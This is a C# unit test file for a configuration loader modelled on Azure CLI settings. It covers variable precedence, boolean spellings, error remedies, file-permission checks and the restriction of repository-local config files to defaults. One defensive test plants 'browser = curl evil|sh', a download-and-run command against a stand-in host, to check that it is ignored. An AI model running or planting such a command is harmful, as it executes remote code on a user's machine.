using Azimuth.Configuration;

namespace Azimuth.Tests.Configuration;

public sealed class SettingsTests : IDisposable
{
    private readonly TemporaryFolder _home = new();

    public void Dispose() => _home.Dispose();

    [Fact]
    public void A_variable_goes_before_the_file_even_when_it_is_empty()
    {
        Write(".azure/config", "[core]\noutput = table\nx = file\n");

        var settings = Settings(("AZURE_CORE_OUTPUT", ""), ("AZURE_CORE_X", "variable"));

        settings.Get("core", "output").ShouldBe("");
        settings.Get("core", "x").ShouldBe("variable");
        settings.Get("core", "y").ShouldBeNull();
    }

    [Theory]
    [InlineData("OFF", false)]
    [InlineData("no", false)]
    [InlineData("False", false)]
    [InlineData("0", false)]
    [InlineData("on", true)]
    [InlineData("YES", true)]
    [InlineData("true", true)]
    [InlineData("1", true)]
    public void A_boolean_has_pythons_spellings(string text, bool expected) =>
        Settings(("AZURE_CORE_LOGIN_EXPERIENCE_V2", text)).GetBoolean("core", "login_experience_v2", !expected).ShouldBe(expected);

    [Fact]
    public void A_boolean_that_is_none_names_the_setting_and_the_command_that_mends_it()
    {
        var error = Should.Throw<UserError>(() => Settings(("AZURE_CORE_NO_COLOR", "maybe")).GetBoolean("core", "no_color", false));

        error.Message.ShouldContain("core.no_color");
        error.Remedy.ShouldBe("az config set core.no_color=false");
    }

    [Fact]
    public void A_repositorys_own_file_sets_defaults_and_nothing_else()
    {
        Write("work/.azure/config", "[core]\nbrowser = curl evil|sh\n[cloud]\nname = Evil\n[defaults]\ngroup = theirs\n");
        Write(".azure/config", "[defaults]\ngroup = mine\nlocation = here\n");
        var warnings = new List<string>();

        var settings = new Settings(new AzureFolder(_home[".azure"]), new(_ => null), Directory.CreateDirectory(_home["work/deep"]).FullName, warnings.Add);

        settings.Get("core", "browser").ShouldBeNull();
        settings.Get("cloud", "name").ShouldBeNull();
        settings.Get("defaults", "group").ShouldBe("theirs");
        settings.Get("defaults", "location").ShouldBe("here");
        warnings.ShouldHaveSingleItem().ShouldContain($"'core.browser' in '{_home["work/.azure/config"]}' is ignored");
    }

    [Fact]
    public void The_persons_own_file_is_no_local_one_for_work_inside_the_home_folder()
    {
        Write(".azure/config", "[core]\noutput = table\n");
        var warnings = new List<string>();

        var settings = new Settings(new AzureFolder(_home[".azure"]), new(_ => null), _home.Root, warnings.Add);

        settings.Get("defaults", "group").ShouldBeNull();
        warnings.ShouldBeEmpty();
    }

    [Fact]
    public void A_line_that_cannot_be_read_is_named_rather_than_taken_for_something_else()
    {
        Write(".azure/config", "[core]\noutput = json\nbroken\n");

        var error = Should.Throw<UserError>(() => Settings().Get("core", "output"));

        error.Message.ShouldContain("line 3");
        error.Message.ShouldContain(_home[".azure/config"]);
    }

    [Fact]
    public void A_file_that_others_may_write_is_refused_with_the_command_that_mends_it()
    {
        Write(".azure/config", "[core]\noutput = json\n");
        _home.Mode(".azure/config", 0b110_000_010);

        Should.Throw<UserError>(() => Settings().Get("core", "output")).Remedy.ShouldBe($"chmod go-w '{_home[".azure/config"]}'");
    }

    [Fact]
    public void Asking_writes_and_creates_nothing()
    {
        Settings().Get("core", "output").ShouldBeNull();

        Directory.GetFileSystemEntries(_home.Root).ShouldBeEmpty();
    }

    private Settings Settings(params (string Name, string Value)[] variables) => new(
        new AzureFolder(_home[".azure"]), new(name => variables.Where(each => each.Name == name).Select(each => each.Value).FirstOrDefault()));

    private void Write(string name, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(_home[name])!);
        File.WriteAllText(_home[name], text);
    }
}
